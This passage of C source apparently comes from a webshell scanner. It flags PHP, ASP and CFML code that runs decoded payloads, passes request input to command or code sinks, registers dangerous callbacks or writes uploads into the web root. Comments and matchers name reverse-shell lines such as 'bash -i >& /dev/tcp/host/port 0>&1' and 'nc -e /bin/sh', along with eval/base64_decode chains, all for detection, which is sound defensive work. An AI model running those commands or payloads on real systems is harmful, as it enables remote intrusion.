static int script_handle(lang_ctx *c, size_t a, size_t b) {
  if (b <= a || c->st[a].kind != TK_VAR) return 0;
  sym *s = lang_sym_get(c, tok_text(c, &c->st[a]), c->st[a].len, 0);
  return s && s->script == 2;
}

/* The calls that open a file with a mode argument (second): a handle open
 * for writing is a write sink on its path. */
static const name_def php_openers[] = {
    {"fopen", N_SINK, SK_WRITE, 1u << SYN_PHP, 1, 0, "fopen()"},
    {"splfileobject", N_SINK, SK_WRITE, 1u << SYN_PHP, 1, 0, "SplFileObject"},
    {"gzopen", N_SINK, SK_WRITE, 1u << SYN_PHP, 1, 0, "gzopen()"},
    {"bzopen", N_SINK, SK_WRITE, 1u << SYN_PHP, 1, 0, "bzopen()"},
};

/* st[i] names one of them: the identifier, or the literal a constant
 * variable or call_user_func('fopen', ...) left as the callee. */
static inline const name_def *php_opener(const lang_ctx *c, size_t i) {
  const token *t = &c->st[i];
  if (t->len != 5 && t->len != 6 && t->len != 13) return NULL; /* the names' lengths */
  if (t->kind != TK_IDENT && (t->kind != TK_STR || (t->flags & TF_INTERP))) return NULL;
  char f = (char)(tok_text(c, t)[0] | 0x20);
  if (f != 'f' && f != 's' && f != 'g' && f != 'b') return NULL;
  for (size_t k = 0; k < sizeof php_openers / sizeof php_openers[0]; k++)
    if (strlen(php_openers[k].name) == t->len && strncasecmp(tok_text(c, t), php_openers[k].name, t->len) == 0 &&
        (t->kind == TK_IDENT || k != 1)) /* new 'SplFileObject'(...) is no call */
      return &php_openers[k];
  return NULL;
}

/* Could the call t(st[a, b)) be one php_extapi.c reads: an "expect://..."
 * first argument, mail, imap_open, pcntl_exec, mb_send_mail, fopen or
 * file_get_contents of a variable?  (Most calls
 * leave here, without a function call.) */
static inline int ext_call_wanted(const lang_ctx *c, const token *t, size_t a, size_t b) {
  if (a < b && c->st[a].kind == TK_STR && c->st[a].len >= 9 && (tok_text(c, &c->st[a])[0] | 0x20) == 'e') return 1;
  char f = tok_text(c, t)[0];
  return (t->len == 4 && f == 'm') || (t->len == 9 && f == 'i') || (t->len == 10 && f == 'p') ||
         (t->len == 12 && f == 'm') || ((t->len == 5 || t->len == 17) && f == 'f' && a < b && c->st[a].kind == TK_VAR);
}

/* Could st[i] be one of php_openers?  Most identifiers leave on their length
 * and first letter, before a call. */
static inline int maybe_opener(const lang_ctx *c, size_t i) {
  const token *t = &c->st[i];
  char f = (char)(tok_text(c, t)[0] | 0x20);
  return (t->len == 5 && f == 'f') || (t->len == 6 && (f == 'g' || f == 'b')) || (t->len == 13 && f == 's');
}

/* fopen(path, mode), new SplFileObject(path, mode), gzopen(...) with a mode that writes. */
static int fopen_writes(const lang_ctx *c, size_t i, size_t *s, size_t *e) {
  size_t ms, me;
  if (!maybe_opener(c, i) || !is_op(c, i + 1, "(") || !php_opener(c, i)) return 0;
  size_t close = lang_match_close(c, i + 1);
  if (!lang_arg_span(c, i + 2, close, 2, &ms, &me) || !lang_arg_span(c, i + 2, close, 1, s, e)) return 0;
  const token *m = &c->st[ms];
  if (me != ms + 1) return 0;
  const char *mode = m->kind == TK_STR ? tok_text(c, m) : m->kind == TK_IDENT ? tok_text(c, m) : "";
  return strpbrk(mode, "waxc") != NULL;
}

/* st[s, e) is one constant string that was decoded, assembled or
 * substituted: code we can read. */
static int constant_code(const lang_ctx *c, size_t s, size_t e) {
  const token *p = &c->st[s];
  return e == s + 1 && p->kind == TK_STR && !(p->flags & TF_INTERP) && p->len >= 4;
}

/* A literal that starts a URI whose content is given inline: include of
 * "data://text/plain;base64," . $x runs $x. */
static int code_uri(const lang_ctx *c, const token *t) {
  const char *s = tok_text(c, t);
  if (t->kind != TK_STR) return 0;
  if (t->len >= 5 && strncasecmp(s, "data:", 5) == 0) return 1;
  /* php://filter/...|resource=data:...: the same content, decoded by the filter chain */
  return t->len >= 12 && strncasecmp(s, "php://filter", 12) == 0 && strstr(s, "resource=data:") != NULL;
}

/* Code text that runs what a decoder unpacks: eval(gzinflate(..., eval(base64_decode(... */
static int unpacks_code(const char *s, size_t n) {
  static const char *const dec[] = {"base64_decode", "gzinflate", "gzuncompress", "str_rot13", "gzdecode", "bzdecompress"};
  const char *ev = NULL;
  for (size_t i = 0; i + 5 <= n && !ev; i++)
    if ((strncasecmp(s + i, "eval", 4) == 0 || strncasecmp(s + i, "assert", 6) == 0) &&
        (i == 0 || !lang_lex_ident_char((unsigned char)s[i - 1])))
      ev = s + i;
  if (!ev) return 0;
  for (size_t k = 0; k < sizeof dec / sizeof dec[0]; k++)
    if (memmem(ev, n - (size_t)(ev - s), dec[k], strlen(dec[k]))) return 1;
  return 0;
}

/* The first PHP command function the code s[0, n) calls (system(...),
 * not $db->exec(...) or curl_exec(...)), or NULL. */
static const char *command_call_in(const char *s, size_t n) {
  static const char *const cmds[] = {"system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec"};
  for (size_t k = 0; k < sizeof cmds / sizeof cmds[0]; k++) {
    size_t m = strlen(cmds[k]);
    for (size_t i = 0; i + m < n; i++) {
      if (strncasecmp(s + i, cmds[k], m) != 0) continue;
      if (i > 0 && (lang_lex_ident_char((unsigned char)s[i - 1]) || s[i - 1] == '>' || s[i - 1] == ':' ||
                    s[i - 1] == '$'))
        continue;
      size_t j = i + m;
      while (j < n && (s[j] == ' ' || s[j] == '\t')) j++;
      if (j < n && s[j] == '(') return cmds[k];
    }
  }
  return NULL;
}

/* Constant code about to be run by display: read it as code, one level
 * deeper; if nothing is found in it but it was hidden by a decoder, that
 * is reported on its own. */
static void run_constant_code(lang_ctx *c, const token *p, const char *display, unsigned line) {
  char chain[160], prefix[256];
  lang_chain_text(p->chain, p->nchain, NULL, chain, sizeof chain);
  if (p->nchain) snprintf(prefix, sizeof prefix, "code hidden by %s and run by %s (line %u): ", chain, display, line);
  else snprintf(prefix, sizeof prefix, "code assembled from pieces and run by %s (line %u): ", display, line);
  size_t before = c->res->ndet;
  const char *code = tok_text(c, p);
  size_t skip = 0;
  while (skip < p->len && (code[skip] == ' ' || code[skip] == '\n' || code[skip] == '\r' || code[skip] == '\t')) skip++;
  /* "?>" . $html_and_php, or a whole file: read as a page, from outside PHP */
  int page = c->syn == SYN_PHP && skip + 1 < p->len && (code[skip] == '<' || code[skip] == '?') && code[skip + 1] == (code[skip] == '<' ? '?' : '>');
  if (!(p->flags & TF_BINARY)) /* bytes that are not text are not code to read again */
    analyze_code(c, code + (page && code[skip] == '?' ? skip + 2 : 0), p->len - (page && code[skip] == '?' ? skip + 2 : 0),
                 c->syn, page ? "PHP" : NULL, prefix, line);
  if (c->res->ndet == before && p->nchain)
    lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line, "%s runs code hidden by %s (line %u)",
                       display, chain, line);
  else if (c->res->ndet == before && c->syn == SYN_PHP && !(p->flags & TF_BINARY)) {
    const char *cmd = command_call_in(code, p->len);
    if (cmd)
      lang_add_detection(c, "shellsift.lang.hidden-command", "webshell", 50, line,
                         "%s runs code kept in a string, and that code runs an operating-system command with %s() "
                         "(line %u)",
                         display, cmd, line);
  }
}

/* The constant st[i] passed through decoders (innermost first), as a
 * wrapper or a create_function() applies them to its argument before the
 * sink: st[i] becomes the decoded text.  0 if a step cannot be applied. */
static int decode_through(lang_ctx *c, size_t i, const uint8_t *chain, size_t n) {
  token out = c->st[i];
  if (out.kind != TK_STR || (out.flags & TF_INTERP) || !n) return 0;
  for (size_t k = 0; k < n; k++) {
    size_t len;
    if (chain[k] == DEC_DECRYPT || chain[k] == DEC_XOR) return 0;
    uint32_t off = lang_decode_apply((decoder_id)chain[k], (const unsigned char *)c->sink.text.buf + out.off, out.len,
                                     &c->sink.text, &len, c->budget);
    if (off == UINT32_MAX) {
      /* a long literal that does not unpack (cut short, damaged): still code packed by
       * these steps; it is marked as bytes, so it is reported as hidden, not read */
      if (c->st[i].len >= 256 && k + 1 < LANG_MAX_CHAIN && chain[k] != DEC_STRREPLACE) {
        token *t = &c->st[i];
        for (size_t m = 0; m <= k && t->nchain < LANG_MAX_CHAIN; m++) t->chain[t->nchain++] = chain[m];
        t->flags |= TF_BINARY;
      }
      return 0;
    }
    out.off = off;
    out.len = (uint32_t)len;
  }
  lang_fold_chain(&out, c->st[i].chain, c->st[i].nchain, 0);
  for (size_t k = 0; k < n && out.nchain < LANG_MAX_CHAIN; k++) out.chain[out.nchain++] = chain[k];
  out.flags = (uint8_t)(lang_fold_binary(c->sink.text.buf + out.off, out.len) ? TF_BINARY : 0);
  c->st[i] = out;
  return 1;
}

/* A parameter of the function being read reaches sink d: calls to the
 * function are calls to d (or, reading a callback's body, d is what it runs). */
static void note_param_sink(lang_ctx *c, const name_def *d, const taint *t) {
  if (d->id != SK_CODE && d->id != SK_CMD && d->id != SK_LOAD && d->id != SK_PREG &&
      !(d->id == SK_SQL && c->syn == SYN_PHP && (t->flags & TA_PURE)))
    return;
  /* d may be a caller's local copy (a wrapper's sink narrowed to one
   * argument): keep the table's row, which outlives this statement */
  const name_def *row = lang_names_lookup(d->name, strlen(d->name), c->syn);
  if (row && row->kind == N_SINK && row->id == d->id) d = row;
  else if (d->name[0] != '`') return; /* the backtick operator's row is static */
  if (t->param == LANG_PARAM_CLOSURE) { /* a parameter of a closure callback being read (php_cbtail.c) */
    lang_php_cbtail_sink(c, d, t->flags);
    return;
  }
  if (c->probe && !c->probe_sink) {
    c->probe_sink = d;
    c->probe_param = t->param;
    memcpy(c->probe_chain, t->chain, t->nchain);
    c->nprobe_chain = t->nchain;
  }
  /* a SQL statement as it is (a database console's query helper) yields to
   * code or a command the same function runs later */
  if (c->fn && (!c->wrappers[c->fn - 1].sink || (c->wrappers[c->fn - 1].sink->id == SK_SQL && d->id != SK_SQL) ||
                /* ... and an argument of a fixed command to a sink it reaches whole */
                ((c->wrappers[c->fn - 1].sink_flags & TA_ARGONLY) && !(t->flags & TA_ARGONLY)))) {
    wrapper *w = &c->wrappers[c->fn - 1];
    w->sink = d;
    w->sink_param = t->param;
    w->sink_flags = t->flags;
    memcpy(w->sink_chain, t->chain, t->nchain);
    w->nsink_chain = t->nchain;
    c->sink_wrappers = 1;
    c->sink_bloom |= 1ull << (((unsigned char)w->name[0] ^ strlen(w->name) * 7u) & 63u);
  }
}

int lang_input_taint(lang_ctx *c, const name_def *d, size_t a, size_t b, taint *t) {
  if (!lang_span_taint(c, a, b, t)) return 0;
  if (!(t->flags & TA_WEAK)) return 1;
  if ((t->flags & TA_PARAM) && d) note_param_sink(c, d, t);
  return 0;
}

/* A sink got st[a, b) without request input: if one of its variables or
 * properties is tainted only later in the file (a session value, a loop, a
 * constructor below the method), a second pass sees it.  They are
 * remembered so that the pass runs only then. */
static void want_repass_for(lang_ctx *c, size_t a, size_t b) {
  c->want_repass = 1;
  if (c->pass != 1 || c->syn != SYN_PHP) return;
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind == TK_IDENT && i > a && is_op(c, i - 1, "->") && !is_op(c, i + 1, "(")) {
      unsigned bit = lang_name_bit(tok_text(c, t), t->len);
      lang_bloom_add(c->sink_prop_bloom, bit);
    }
    if (t->kind != TK_VAR || t->len >= sizeof c->repass_vars[0].name ||
        c->nrepass_vars == sizeof c->repass_vars / sizeof c->repass_vars[0])
      continue;
    memcpy(c->repass_vars[c->nrepass_vars].name, tok_text(c, t), t->len);
    c->repass_vars[c->nrepass_vars].name[t->len] = '\0';
    c->repass_vars[c->nrepass_vars].scope = lang_sym_scope(c, tok_text(c, t), t->len); /* global $x: the global */
    c->nrepass_vars++;
  }
}

/* A packed literal or a download run as code: not request input, but
 * code the file does not show. */
static void weak_code(lang_ctx *c, const taint *t, const char *display, unsigned line) {
  char chain[160];
  lang_chain_text(t->chain, t->nchain, t->via, chain, sizeof chain);
  if (t->flags & TA_REMOTE)
    lang_add_detection(c, "shellsift.lang.remote-code", "webshell", 75, line,
                       "%s runs code downloaded from %s (line %u)", display, t->src, line);
  else if (t->flags & TA_SOCKET)
    lang_add_detection(c, "shellsift.lang.remote-code", "webshell", 75, line,
                       "%s runs code received on a network socket (%s, line %u)", display, t->src, t->line);
  else if (t->flags & TA_PACKED)
    lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                       "%s runs code unpacked at run time from %s%s%s (line %u)", display, t->src,
                       *chain ? " by " : "", chain, line);
}

/* eval(gzinflate(base64_decode('<a long literal>'))) whose decoding stops here (the data is not what the decoder
 * takes: damaged, or packed some other way): [a, b) is nothing but decoder calls around one literal of 512 bytes or
 * more.  The code it runs is hidden all the same.  *lit gets the literal's length, *fn the outer decoder's name. */
static int undecoded_payload(lang_ctx *c, size_t a, size_t b, size_t *lit, const char **fn) {
  size_t nstr = 0, ncall = 0;
  *lit = 0, *fn = NULL;
  if (a < b && is_op(c, a, "@")) a++;
  if (b < a + 4 || c->st[a].kind != TK_IDENT) return 0;
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind == TK_STR) {
      if (++nstr > 1 || t->len < 512 || (t->flags & TF_INTERP)) return 0;
      *lit = t->len;
    } else if (t->kind == TK_IDENT) {
      const name_def *d = lang_names_lookup(tok_text(c, t), t->len, c->syn);
      if (!d || d->kind != N_DECODER || i + 1 >= b || !is_op(c, i + 1, "(")) return 0;
      if (!ncall++) *fn = tok_text(c, t);
    } else if (!(is_op(c, i, "(") || is_op(c, i, ")") || is_op(c, i, "@"))) {
      return 0;
    }
  }
  return nstr == 1 && ncall > 0;
}

/* The mode argument of mb_ereg_replace(): 'e' runs the replacement. */
static int mb_eval_mode(const lang_ctx *c, size_t a, size_t b) {
  size_t s, e;
  if (!lang_arg_span(c, a, b, 4, &s, &e) || e != s + 1 || c->st[s].kind != TK_STR) return 0;
  return strchr(tok_text(c, &c->st[s]), 'e') != NULL;
}

static int preg_eval_pattern(const lang_ctx *c, size_t s, size_t e) {
  if (e != s + 1 || c->st[s].kind != TK_STR || c->st[s].len <= 2) return 0;
  const char *pat = tok_text(c, &c->st[s]);
  char delim = pat[0] == '(' ? ')' : pat[0] == '{' ? '}' : pat[0] == '[' ? ']' : pat[0] == '<' ? '>' : pat[0];
  const char *mods = strrchr(pat + 1, delim); /* modifiers follow the closing delimiter */
  return mods && strchr(mods, 'e') != NULL;
}

/* The object a method sink is called on carries request input. */
static int object_taint(lang_ctx *c, taint *t) {
  if (!c->method_obj || c->method_obj == SIZE_MAX) return 0; /* index + 1 */
  const token *o = &c->st[c->method_obj - 1];
  sym *s = lang_sym_get(c, tok_text(c, o), o->len, 0);
  if (!s || !s->has_taint || (s->t.flags & TA_WEAK)) return 0;
  *t = s->t;
  return 1;
}

/* A callable named by a constant prefix joined to a value ('display_html_' . $page,
 * [$this, 'do_' . $action]): one of the application's own family of
 * functions, unless the prefix starts the name of a code or command sink. */
static int fixed_prefix(lang_ctx *c, size_t s, size_t e) {
  static const char *const sinks[] = {"assert", "system", "eval", "exec", "passthru", "shell_exec", "popen",
                                      "proc_open", "create_function", "call_user_func", "preg_replace", "pcntl_exec"};
  size_t i = s;
  if (e > s + 2 && (is_op(c, s, "[") || tok_is(c, &c->st[s], TK_IDENT, "array"))) { /* the last element */
    i = e - 2;
    while (i > s && !is_op(c, i, ",")) i--;
    if (i == s) return 0;
    i++;
  }
  if (i + 1 >= e || c->st[i].kind != TK_STR || (c->st[i].flags & TF_INTERP) || !is_op(c, i + 1, ".") ||
      c->st[i].len < 2)
    return 0;
  const char *p = tok_text(c, &c->st[i]);
  for (size_t k = 0; k < sizeof sinks / sizeof sinks[0]; k++)
    if (strncasecmp(p, sinks[k], c->st[i].len < strlen(sinks[k]) ? c->st[i].len : strlen(sinks[k])) == 0) return 0;
  return 1;
}

/* st[s, e) is a variable assigned a name with a fixed prefix: $f = 'handle_' . $x */
static int prefixed_var(lang_ctx *c, size_t s, size_t e) {
  if (e != s + 1 || c->st[s].kind != TK_VAR) return 0;
  const sym *sy = lang_sym_get(c, tok_text(c, &c->st[s]), c->st[s].len, 0);
  return sy && sy->has_taint && sy->pfx_tag && sy->pfx_tag == lang_taint_tag(&sy->t);
}

/* st[s] starts a closure or an arrow function: [static] function (, [static] fn ( */
static int closure_at(const lang_ctx *c, size_t s, size_t e) {
  if (s < e && tok_is(c, &c->st[s], TK_IDENT, "static")) s++;
  return s + 1 < e && (tok_is(c, &c->st[s], TK_IDENT, "function") || tok_is(c, &c->st[s], TK_IDENT, "fn")) &&
         is_op(c, s + 1, "(");
}

/* FFI::cdef('int system(const char *);')->system(...): the FFI object used
 * where it is made (the ')' before "->" at st[i - 2]); its method's row. */
static __attribute__((noinline)) const name_def *ffi_chain(lang_ctx *c, size_t i) {
  size_t k = lang_match_open(c, i - 2);
  char ty[8], typed[64];
  if (k >= c->nst || k < 3 || !lang_php_ffi_type(c, k - 3, i, ty, sizeof ty)) return NULL;
  snprintf(typed, sizeof typed, "%s.%.40s", ty, tok_text(c, &c->st[i]));
  return lang_names_lookup(typed, strlen(typed), c->syn);
}

/* Does the file read the request anywhere, also after the statement being
 * read (the raw text: for the rare checks that need to know early)? */
static int reads_request(const lang_ctx *c) {
  static const char *const marks[] = {"$_GET", "$_POST", "$_REQUEST", "$_COOKIE", "php://input", "$_SERVER['HTTP_"};
  if (c->pcaps->request) return 1;
  for (size_t k = 0; c->buf && k < sizeof marks / sizeof marks[0]; k++)
    if (memmem(c->buf, c->len, marks[k], strlen(marks[k]))) return 1;
  return 0;
}

/* A callback that PHP, not the file, calls with request data:
 * filter_input(INPUT_POST, 'c', FILTER_CALLBACK, ['options' => 'system']),
 * $soap->addFunction('system'), $db->createFunction('x', 'system'). */
static __attribute__((noinline)) int registered_sink(lang_ctx *c, const name_def *d, const name_def *inner,
                                                      const char *display, const char *how, unsigned line, size_t a,
                                                      size_t b) {
  const char *rule = inner->id == SK_CMD ? "shellsift.lang.command-exec" : "shellsift.lang.code-exec";
  size_t is, ie;
  if (d->name[0] == 'f' && strcmp(d->name, "filter_input") == 0 && lang_arg_span(c, a, b, 1, &is, &ie) && ie == is + 1 &&
      c->st[is].kind == TK_IDENT && c->st[is].len > 6 && strncmp(tok_text(c, &c->st[is]), "input_", 6) == 0) {
    /* filter_input(INPUT_POST, 'c', FILTER_CALLBACK, ['options' => 'system']): the field read is the argument */
    char src[24];
    size_t n = c->st[is].len < sizeof src ? c->st[is].len : sizeof src - 1;
    for (size_t k = 0; k < n; k++) {
      char ch = tok_text(c, &c->st[is])[k];
      src[k] = (char)(ch >= 'a' && ch <= 'z' ? ch - 32 : ch);
    }
    src[n] = '\0';
    lang_add_detection(c, rule, "webshell", 90, line,
                       "request input filter_input(%s, ...) reaches %s as its FILTER_CALLBACK (line %u)", src,
                       inner->display, line);
    return 1;
  }
  if (d->name[0] == '-' && (strcmp(d->name, "->addfunction") == 0 || strcmp(d->name, "->createfunction") == 0 ||
                            strcmp(d->name, "->sqlitecreatefunction") == 0) &&
      (inner->id == SK_CMD || inner->id == SK_CODE) && (d->name[2] == 'a' || reads_request(c))) {
    /* $soap->addFunction('system'), $db->createFunction('x', 'system'): a SOAP call or an SQL
     * statement of a page that reads the request calls it with the arguments it gives */
    lang_add_detection(c, "shellsift.lang.callback", "webshell", 85, line,
                       d->name[2] == 'a' ? "%s makes %s callable by the SOAP request the server handles (line %u)"
                                         : "%s makes %s an SQL function, in a page that reads the request: the "
                                           "statement chooses its argument (line %u)",
                       display, *how ? how : inner->display, line);
    return 1;
  }
  return 0;
}

static void check_callback(lang_ctx *c, const name_def *d, const char *display, unsigned line, size_t a, size_t b) {
  taint t = {0};
  size_t s, e;
  /* usort(...$_GET): the arguments, callback included, spread from the request */
  for (size_t i = a; i + 1 < b; i++)
    if (is_op(c, i, "...") && lang_input_taint(c, NULL, i + 1, b, &t)) {
      lang_add_detection(c, "shellsift.lang.callback", "webshell", 85, line,
                         "request input %s chooses the function %s calls (line %u)", t.src, display, line);
      return;
    }
  if (!lang_arg_span(c, a, b, d->arg, &s, &e)) return;
  /* [$object, 'method']: the method is fixed; 'handle_' . $x, [$o, 'show_' . $x]: one of a family */
  int fixed_method = (e > s + 2 && (is_op(c, s, "[") || tok_is(c, &c->st[s], TK_IDENT, "array")) &&
                      c->st[e - 2].kind == TK_STR && (is_op(c, e - 1, "]") || is_op(c, e - 1, ")"))) ||
                     (c->syn == SYN_PHP && (fixed_prefix(c, s, e) || prefixed_var(c, s, e))) ||
                     /* a closure written in place: the request values its body reads are not its name */
                     (c->syn == SYN_PHP && closure_at(c, s, e));
  if (!fixed_method && lang_input_taint(c, d, s, e, &t) && !(t.flags & TA_CALLED)) {
    lang_add_detection(c, "shellsift.lang.callback", "webshell", 85, line,
                       "request input %s chooses the function %s calls (line %u)", t.src, display, line);
    return;
  }
  char how[64] = "";
  uint8_t chain[LANG_MAX_CHAIN], nchain;
  const name_def *inner = c->syn == SYN_PHP ? lang_php_callable(c, s, e, how, sizeof how, chain, &nchain) : NULL;
  int session = strcmp(d->name, "session_set_save_handler") == 0;
  if (!inner && session && lang_arg_span(c, a, b, 3, &s, &e)) /* ... or its read callback */
    inner = lang_php_callable(c, s, e, how, sizeof how, chain, &nchain);
  if (inner && session) { /* PHP calls it with the session id, which the client's cookie chooses */
    lang_add_detection(c, inner->id == SK_CMD ? "shellsift.lang.command-exec" : "shellsift.lang.code-exec", "webshell",
                       90, line, "%s is a session_set_save_handler() callback: PHP calls it with the session id "
                       "and data that the client's cookie chooses (line %u)", *how ? how : inner->display, line);
    return;
  }
  if (!inner) {
    if (c->syn == SYN_PHP && closure_at(c, s, e)) lang_php_cbtail_read(c, display, line, a, s);
    if (lang_php_built_callback(c, s, e, a, b, display, line)) return;
    if (lang_php_tick_callback(c, d, s, e, b, line)) return;
    if (lang_php_unset_callback(c, s, e, a, b, display, line)) return;
    if (c->fn && c->syn == SYN_PHP) lang_php_note_dispatch(c, s, e, a, b); /* array_map($f, array($a)) */
    if (!(e == s + 1 && c->st[s].kind == TK_STR)) want_repass_for(c, s, e);
    return;
  }
  const char *rule = inner->id == SK_CMD ? "shellsift.lang.command-exec" : "shellsift.lang.code-exec";
  if (strcmp(d->name, "ob_start") == 0) {
    c->ob_sink = inner; /* what is printed from now on is run */
    lang_add_detection(c, "shellsift.lang.callback", "webshell", 55, line,
                       "ob_start() hands what the page prints to %s: printed text is run (line %u)",
                       *how ? how : inner->display, line);
    return;
  }
  taint dt;
  if ((d->name[0] == 'f' || d->name[0] == '-') && registered_sink(c, d, inner, display, how, line, a, b)) return;
  if ((lang_input_taint(c, NULL, a, s, &dt) || lang_input_taint(c, NULL, e, b, &dt) || object_taint(c, &dt))) {
    lang_add_detection(c, rule, "webshell", 90, line, "request input %s reaches %s through %s (line %u)", dt.src,
                       inner->display, display, line);
    return;
  }
  if (c->fn) { /* a function that hands its parameter to a callback that runs it */
    taint pt;
    if (lang_span_taint(c, a, s, &pt) || lang_span_taint(c, e, b, &pt)) note_param_sink(c, inner, &pt);
  }
  if (c->syn == SYN_PHP && closure_at(c, s, e)) lang_php_cbtail_open(c, inner, display, line, s);
  if (c->syn == SYN_PHP) lang_php_handler_set(c, d, inner);
  lang_add_detection(c, "shellsift.lang.callback", "webshell", 55, line, "%s is handed %s as a callback (line %u)",
                     display, *how ? how : inner->display, line);
}

/* Execute(UnEncode(hu)) with hu a constant: a function of this page, not
 * a built-in, turns constants into the code run; *name gets its name. */
static int runtime_decoded(const lang_ctx *c, size_t a, size_t b, char *name, size_t namesz) {
  /* one call, or calls joined by concatenation: d(6) & d(10) & ... */
  const token *f = &c->st[a];
  int strings = 0, calls = 0;
  for (size_t i = a; i < b;) {
    const token *g = &c->st[i];
    if (g->kind != TK_IDENT || !is_op(c, i + 1, "(") || strchr(tok_text(c, g), '.')) return 0;
    const name_def *d = lang_names_lookup(tok_text(c, g), g->len, c->syn);
    size_t close = lang_match_close(c, i + 1);
    if (close >= b || close < i + 3) return 0;
    if (d && d->kind == N_DECODER) { /* Execute(Unescape(x)) of a value built at run time */
      strings++;
    } else if (d || g->len != f->len || memcmp(tok_text(c, g), tok_text(c, f), f->len) != 0) {
      return 0;
    } else {
      for (size_t k = i + 2; k < close; k++) {
        const token *t = &c->st[k];
        if (t->kind == TK_STR) strings += t->len >= 16;
        else if (t->kind != TK_NUM && !is_op(c, k, ",")) return 0;
      }
    }
    calls++;
    i = close + 1;
    if (i < b && !(is_op(c, i, "&") || is_op(c, i, "+"))) return 0;
    if (i < b) i++;
  }
  if (!strings && calls < 4) return 0; /* short numeric arguments: a lookup, unless many are joined */
  snprintf(name, namesz, "%.60s", tok_text(c, f));
  return 1;
}

/* Execute(fso.OpenTextFile(p).ReadAll), Execute(s) with s = st.ReadText:
 * code kept in another file (an image, a log) and run from there. */
static int reads_file(lang_ctx *c, size_t a, size_t b) {
  static const char *const reads[] = {"readall", "readtext", "readtoend", "readalltext"};
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_IDENT) continue;
    const char *s = tok_text(c, t), *dot = strrchr(s, '.'), *last = dot ? dot + 1 : s;
    for (size_t k = 0; (dot || (i > a && is_op(c, i - 1, "."))) && k < sizeof reads / sizeof reads[0]; k++)
      if (strcmp(last, reads[k]) == 0) return 1; /* x.ReadAll, OpenTextFile(p).ReadAll */
    sym *sy = lang_sym_get(c, s, t->len, 0);
    if (sy && sy->has_type && sy->type_len == 8 && memcmp(c->persist.buf + sy->type_off, "fileread", 8) == 0)
      return 1;
  }
  return 0;
}

/* A constant command line that hands a shell to a remote host:
 * "bash -i >& /dev/tcp/host/port 0>&1", "nc -e /bin/sh host port". */
static int reverse_shell(const lang_ctx *c, size_t a, size_t b) {
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_STR) continue;
    const char *s = tok_text(c, t);
    if (memmem(s, t->len, "/dev/tcp/", 9) || memmem(s, t->len, "/dev/udp/", 9) ||
        ((memmem(s, t->len, "nc ", 3) || memmem(s, t->len, "ncat ", 5)) &&
         (memmem(s, t->len, " -e /bin/", 9) || memmem(s, t->len, " -e cmd", 7))))
      return 1;
  }
  return 0;
}

/* new FileStream(path, FileMode.Create): a stream opened to write. */
static int opens_for_writing(const lang_ctx *c, size_t a, size_t b) {
  static const char *const modes[] = {"filemode.create", "filemode.createnew", "filemode.append",
                                      "filemode.openorcreate", "filemode.truncate", "fileaccess.write"};
  for (size_t i = a; i < b; i++) {
    if (c->st[i].kind != TK_IDENT) continue;
    const char *s = tok_text(c, &c->st[i]);
    for (size_t k = 0; k < sizeof modes / sizeof modes[0]; k++) {
      size_t m = strlen(modes[k]);
      if (c->st[i].len >= m && strcmp(s + c->st[i].len - m, modes[k]) == 0) return 1;
    }
  }
  return 0;
}

/* A literal of st[a, b) starts a BCEL class name: "$$BCEL$$" + bytes. */
static int bcel_name(const lang_ctx *c, size_t a, size_t b) {
  for (size_t i = a; i < b && i < c->nst; i++)
    if (c->st[i].kind == TK_STR && c->st[i].len >= 8 && memcmp(tok_text(c, &c->st[i]), "$$BCEL$$", 8) == 0) return 1;
  return 0;
}

/* The value of attribute cfattr.<name> in a CFML tag call st[a, b). */
static int cf_attr(const lang_ctx *c, size_t a, size_t b, const char *name, size_t *s, size_t *e) {
  char want[48];
  snprintf(want, sizeof want, "cfattr.%s", name);
  for (unsigned k = 1; lang_arg_span(c, a, b, k, s, e); k++)
    if (*e > *s + 2 && tok_is(c, &c->st[*s], TK_IDENT, want) && is_op(c, *s + 1, "=")) {
      *s += 2;
      return 1;
    }
  return 0;
}

/* <cffile action="write|upload|copy|move">: the path is an attribute.  An
 * upload keeps the client's file name unless told otherwise, so one
 * stored under the web root with no accept= list of types is an
 * uploader.  Returns 1 when the sink was a CFML tag (checked here). */
static int cf_tag_write(lang_ctx *c, const name_def *d, unsigned line, size_t a, size_t b) {
  size_t s, e, vs, ve;
  taint t = {0};
  if (strncmp(d->name, "cf", 2) != 0) return 0; /* FileWrite(path, text): a function, its path an argument */
  if (strcmp(d->name, "cfhttp") == 0) { /* path= (and file=) save what it fetches */
    if (!cf_attr(c, a, b, "path", &s, &e)) return 1;
    if (cf_attr(c, a, b, "url", &vs, &ve) && lang_span_taint(c, vs, ve, &t) && !(t.flags & TA_CALLED) &&
        (under_web_root(c, s, e) || (cf_attr(c, a, b, "file", &vs, &ve) && (has_script_ext(c, vs, ve) ||
                                                                           lang_span_taint(c, vs, ve, &t)))))
      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s chooses what <cfhttp> downloads into the web root (line %u)", t.src, line);
    else if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED))
      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s chooses where <cfhttp> saves what it downloads (line %u)", t.src, line);
    return 1;
  }
  if (strcmp(d->name, "cffile.upload") == 0) {
    if (!cf_attr(c, a, b, "destination", &s, &e)) return 1;
    int accept = cf_attr(c, a, b, "accept", &vs, &ve) && ve == vs + 1 && c->st[vs].kind == TK_STR &&
                 !strstr(tok_text(c, &c->st[vs]), "*");
    if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED))
      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s chooses where <cffile action=\"upload\"> stores a file (line %u)", t.src, line);
    else if (!accept && under_web_root(c, s, e))
      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "<cffile action=\"upload\"> stores any file the client sends, under its own name, in the web "
                    "root (line %u)", line);
    return 1;
  }
  /* write and append name their file file=; copy, move and rename name it destination= */
  int file_attr = strcmp(d->name, "cffile.write") == 0 || strcmp(d->name, "cffile.append") == 0;
  if (!cf_attr(c, a, b, file_attr ? "file" : "destination", &s, &e)) return 1;
